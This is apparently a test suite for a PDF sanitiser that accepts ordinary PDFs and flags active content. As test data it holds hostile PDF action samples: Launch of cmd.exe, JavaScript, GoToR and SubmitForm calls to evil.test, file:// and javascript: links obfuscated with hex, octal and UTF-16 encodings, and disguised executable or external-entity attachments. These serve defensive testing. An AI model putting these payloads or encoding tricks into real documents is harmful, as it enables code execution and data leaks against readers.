import { pdf, pdfDocument as document, pdfWithObjectStream } from '../../../../tests/harness/documents'
import { flawOfPdf } from './check-pdf'

const flaw = (bytes: Buffer): string => {
  const found = flawOfPdf(bytes)
  return typeof found === 'object' ? found.active : (found ?? 'ok')
}
const onOpen = (action: string): Buffer => document(`/OpenAction ${action}`)
const onClick = (action: string): Buffer => document('', `/Annots[<</Type/Annot/Subtype/Link/A ${action}>>]`)

test('files of common programs are accepted', () => {
  const quiet = [
    document(),
    onOpen('[3 0 R /FitH 842]'),
    onOpen('<</S/GoTo/D[3 0 R /XYZ 0 0 1]>>'),
    document('/OpenAction 9 0 R', '', '9 0 obj<</Type/Action/S/GoTo/D[3 0 R/Fit]>>endobj'),
    onClick('<</Type/Action/S/URI/URI(https://www.sdei.gov.cn/)>>'),
    onClick('<</S/URI/URI(mailto:pool@example.cn)>>'),
    onClick('<</S/URI/URI 9 0 R>>'),
    onClick('<</S/Named/N/NextPage>>'),
    document(
      '/Outlines 5 0 R',
      '',
      '5 0 obj<</First 6 0 R/Last 7 0 R>>endobj 6 0 obj<</Title(一)/Next 7 0 R/A<</S/GoTo/D[3 0 R]>>>>endobj 7 0 obj<</Title(b)/Prev 6 0 R/Dest[3 0 R]>>endobj',
    ),
    document('/StructTreeRoot<</K<</Type/StructElem/S/Table/A<</O/Table/RowSpan 2>>>>/RoleMap<</A/Span/AA/P>>>>'),
    document(
      '',
      '/Resources<</XObject<</A 8 0 R/AA 8 0 R>>>>',
      '8 0 obj<</Subtype/Form/Group<</S/Transparency>>/Length 1>>stream\nq\nendstream endobj',
    ),
    document(
      '/AcroForm<</Fields[6 0 R]/SigFlags 3>>',
      '',
      '6 0 obj<</Subtype/Widget/FT/Sig/V<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>>>endobj',
    ),
    document('/Names<</Dests<</Names[(a)[3 0 R]]>>>>/PageMode/UseOutlines/Lang(zh-CN)'),
    document('/AA<<>>'),
    // A font, or anything else without a type of action.
    document('', '/Resources<</Font<</AA<</Type/Font/Subtype/Type0/FontDescriptor<</Type/FontDescriptor>>>>>>>>'),
    // These words in a text do nothing.
    document('', '/Title(How /JavaScript and /Launch are spelt, 1 0 object, \\) endobj)'),
    pdfWithObjectStream('<< /Type /Page >>'),
    pdf(),
  ]
  expect(quiet.map(flaw)).toEqual(quiet.map(() => 'ok'))
})

test('every click, annotation and name tree of the list is accepted', () => {
  for (const turn of ['NextPage', 'PrevPage', 'FirstPage', 'LastPage', 'GoBack', 'GoForward'])
    expect([turn, flaw(onClick(`<</S/Named/N/${turn}>>`))]).toEqual([turn, 'ok'])
  for (const key of ['Type', 'Dests', 'IDS', 'URLS', 'Pages', 'AP', 'EmbeddedFiles'])
    expect([key, flaw(document(`/Names<</${key} 9 0 R>>`))]).toEqual([key, 'ok'])
  const kinds =
    'Link Text FreeText Line Square Circle Polygon PolyLine Highlight Underline Squiggly StrikeOut Stamp Caret Ink Popup FileAttachment Widget PrinterMark TrapNet Watermark Redact'
  for (const kind of kinds.split(' '))
    expect([kind, flaw(document('', `/Annots[<</Subtype/${kind}>>]`))]).toEqual([kind, 'ok'])
})

test('names of what runs or fetches are refused as a key and as a value, wherever they occur', () => {
  const names =
    'JavaScript Launch GoToR GoToE ImportData SubmitForm Rendition RichMedia RichMediaExecute RichMediaContent GoTo3DView XFA'
  for (const name of names.split(' '))
    for (const page of [`/Odd<</${name} 1>>`, `/Odd[/${name}]`])
      expect([page, flaw(document('', page))]).toEqual([page, name])
})

test('actions in every key of a click are judged', () => {
  for (const key of ['A', 'PA', 'Next'])
    expect([key, flaw(document('', `/Annots[<</Subtype/Link/${key}<</S/Hide>>>>]`))]).toEqual([key, 'Hide'])
})

test('on opening, only going to a place in the document is allowed', () => {
  const found = {
    '<</S/GoToR/F(\\\\\\\\evil.test\\\\share)/D[0]>>': 'GoToR',
    '<</S/GoToE/T<</R/C>>>>': 'GoToE',
    '<</S/Launch/F(cmd.exe)>>': 'Launch',
    '<</S/ImportData/F(http://evil.test/x.fdf)>>': 'ImportData',
    '<</S/SubmitForm/F(http://evil.test/)>>': 'SubmitForm',
    '<</S/JavaScript/JS(app.alert(1))>>': 'JavaScript',
    '<</S/Rendition/OP 0>>': 'Rendition',
    '<</S/URI/URI(http://evil.test/)>>': 'OpenAction URI',
    '<</S/Named/N/Print>>': 'OpenAction Named',
    '<</S/Sound>>': 'OpenAction Sound',
    '<</S/Unheard>>': 'OpenAction Unheard',
    '<</S 9 0 R>>': 'OpenAction',
    '<</S/GoTo/S/URI/URI(http://evil.test/)>>': 'OpenAction GoTo',
    '<</S/GoTo/D[3 0 R]/Next<</S/URI/URI(http://evil.test/)>>>>': 'OpenAction URI',
    '<</S/J#61vaScript>>': 'JavaScript',
    '<</#53/#55RI/URI(http://evil.test/)>>': 'OpenAction URI',
  }
  for (const [action, expected] of Object.entries(found)) {
    expect([action, flaw(onOpen(action))]).toEqual([action, expected])
    const referred = document('/OpenAction 9 0 R', '', `9 0 obj 10 0 R endobj 10 0 obj ${action} endobj`)
    expect([action, flaw(referred)]).toEqual([action, expected])
  }
  expect(flaw(document('/AA<</WC<</S/URI/URI(http://evil.test/)>>>>'))).toBe('AA URI')
  expect(flaw(document('', '/AA<</O 9 0 R>>', '9 0 obj<</S/Hide>>endobj'))).toBe('AA Hide')
})

test('a click may lead to a place in the document, or to a web or mail address', () => {
  for (const address of [
    'file:///c:/x',
    '\\\\\\\\\\\\\\\\evil\\\\\\\\share',
    '//evil/x',
    'javascript:x',
    'java\\nscript:x',
    'smb://x',
  ])
    expect([address, flaw(onClick(`<</S/URI/URI(${address})>>`))]).not.toEqual([address, 'ok'])
  expect(flaw(onClick('<</S/URI/URI 9 0 R>>'))).toBe('ok')
  expect(
    flaw(
      document(
        '',
        '/Annots 8 0 R',
        '8 0 obj[9 0 R]endobj 9 0 obj<</Subtype/Link/A<</S/URI/URI<66696c653a2f2f78>>>>>endobj',
      ),
    ),
  ).toBe('file://x')
  const hex = (bytes: Buffer): string => `<${bytes.toString('hex')}>`
  for (const [named, text] of [
    ['UTF-16, big end first', hex(Buffer.from('\ufefffile://x', 'utf16le').swap16())],
    ['UTF-16, little end first', hex(Buffer.from('\ufefffile://x', 'utf16le'))],
    ['UTF-8', hex(Buffer.from('\ufefffile://x'))],
    ['octal digits', '(\\146i\\154e:\\57\\57x)'],
    ['a broken line', '(fi\\\nle\\\r\n://x)'],
    ['needless escapes', '(f\\ile://x)'],
    ['spaces between digits', '<66 69 6c 65\n3a2f2f78>'],
    ['half a digit more', '<66696c653a2f2f7>'],
  ])
    expect([named, flaw(onClick(`<</S/URI/URI ${text}>>`))]).toEqual([
      named,
      named === 'half a digit more' ? 'file://p' : 'file://x',
    ])
  expect(flaw(document('/URI<</Base(file://evil/)>>'))).toBe('file://evil/')
  for (const [action, expected] of [
    ['<</S/SetOCGState>>', 'SetOCGState'],
    ['<</S/ResetForm>>', 'ResetForm'],
    ['<</S/Named/N/SaveAs>>', 'Named SaveAs'],
    ['<</S/Named/N 9 0 R>>', 'Named '],
    ['<</S/GoTo/Next[<</S/Movie>>]>>', 'Movie'],
  ])
    expect(flaw(onClick(action as string))).toBe(expected)
})

test('media, XFA, document scripts, external streams and attachments other than XML data are refused', () => {
  for (const kind of ['RichMedia', 'Screen', 'Movie', 'Sound', '3D'])
    expect(flaw(document('', `/Annots[<</Subtype/${kind}>>]`))).toBe(kind)
  expect(flaw(document('', '', '9 0 obj<</Type/Annot/Subtype 8 0 R>>endobj'))).toBe('Annot')
  expect(flaw(document('/Names<</JavaScript 9 0 R>>'))).toBe('JavaScript')
  expect(flaw(document('/Names 9 0 R', '', '9 0 obj<</Renditions 8 0 R>>endobj'))).toBe('Renditions')
  expect(flaw(document('/AcroForm<</XFA[(x) 9 0 R]>>'))).toBe('XFA')
  expect(flaw(document('', '', '9 0 obj<</Length 0/F(\\\\\\\\evil\\\\x)>>stream\nendstream endobj'))).toBe('external')
  const attached = (name: string, content: string): Buffer =>
    document(
      '/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(' + name + ')/EF<</F 9 0 R>>>>]>>>>',
      '',
      `9 0 obj<</Type/EmbeddedFile/Length ${content.length}>>stream\n${content}\nendstream endobj`,
    )
  expect(flaw(attached('invoice.xml', '<?xml version="1.0"?><xbrl/>'))).toBe('ok')
  for (const [name, content] of [
    ['a.exe', 'MZ'],
    ['a.xml.exe', '<a/>'],
    ['a.xml', 'MZ'],
    ['a.xml', '<!DOCTYPE a SYSTEM "http://evil.test"><a/>'],
    ['a.xml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'],
    ['a.xml', '<?xml-stylesheet type="text/xsl" href="http://evil.test"?><a/>'],
    ['a.html', '<html/>'],
  ])
    expect(flaw(attached(name as string, content as string))).toBe('EmbeddedFile')
})
